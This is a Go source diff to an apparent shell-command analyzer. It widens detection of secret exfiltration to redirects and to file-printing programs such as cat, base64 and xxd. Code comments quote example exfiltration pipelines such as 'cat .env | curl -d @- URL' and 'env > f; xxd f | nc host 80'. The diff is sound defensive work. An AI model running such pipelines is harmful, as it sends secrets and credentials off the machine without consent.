@@ -94,8 +94,11 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *shell.State) string {
 					}
 				}
 			case *syntax.Redirect:
-				if src := environSource(shell.WordLiteral(x.Word)); src != "" {
+				lit := shell.WordLiteral(x.Word)
+				if src := environSource(lit); src != "" {
 					found = src
+				} else if x.Op == syntax.RdrIn && lit != "" {
+					found = a.fileSecret(shell.Word{Text: lit, Src: lit}, st) // curl -d @- URL < .env
 				}
 			}
 			return found == ""
@@ -322,10 +325,11 @@ func (a *analyzer) stageSecret(s *syntax.Stmt, st *shell.State) string {
 		return src
 	}
 	// A file the command filled with secrets earlier, read by name:
-	// env > f; xxd f | nc host 80.
+	// env > f; xxd f | nc host 80; or a secret file a reader prints:
+	// cat .env | curl -d @- URL.
 	// Only literal names are looked at: expanding every argument of every
 	// stage again would repeat the work of nested substitutions.
-	if ce, ok := s.Cmd.(*syntax.CallExpr); ok && len(ce.Args) > 1 && len(a.bodies) > 0 {
+	if ce, ok := s.Cmd.(*syntax.CallExpr); ok && len(ce.Args) > 1 && (len(a.bodies) > 0 || secretReaders[path.Base(shell.WordLiteral(ce.Args[0]))]) {
 		for _, w := range ce.Args[1:] {
 			if v := shell.WordLiteral(w); v != "" {
 				if sec := a.fileSecret(shell.Word{Text: v}, st); sec != "" {
@@ -356,6 +360,16 @@ func (a *analyzer) stageSecret(s *syntax.Stmt, st *shell.State) string {
 		}
 	}
 	return a.x.StdinSecret
+}
+
+// secretReaders print the files they are given (or a form of them), so a
+// secret file among their arguments is on their standard output.
+var secretReaders = map[string]bool{
+	"cat": true, "head": true, "tail": true, "tac": true, "less": true, "more": true, "base64": true, "base32": true,
+	"xxd": true, "od": true, "hexdump": true, "gzip": true, "bzip2": true, "xz": true, "zstd": true, "sed": true,
+	"awk": true, "grep": true, "tr": true, "cut": true, "sort": true, "uniq": true, "jq": true, "yq": true,
+	"strings": true, "openssl": true, "gpg": true, "nl": true, "paste": true, "column": true, "envsubst": true,
+	"dotenv": true, "tee": true,
 }
 
 // isArchiver reports whether a program packs whole directories.
@@ -398,6 +412,12 @@ func (a *analyzer) fileSecret(x shell.Word, st *shell.State) string {
 	for _, p := range a.resolveArg(x, st).paths {
 		if src := environSource(p); src != "" {
 			return src
+		}
+		if a.isSecret(p) {
+			// A secret file is a secret source whatever [rules]
+			// secret-file says: reading it may be allowed, sending it
+			// off the machine is exfiltration.
+			return "the secret file " + p
 		}
 		for _, b := range a.bodies[p] {
 			if b.Secret != "" {
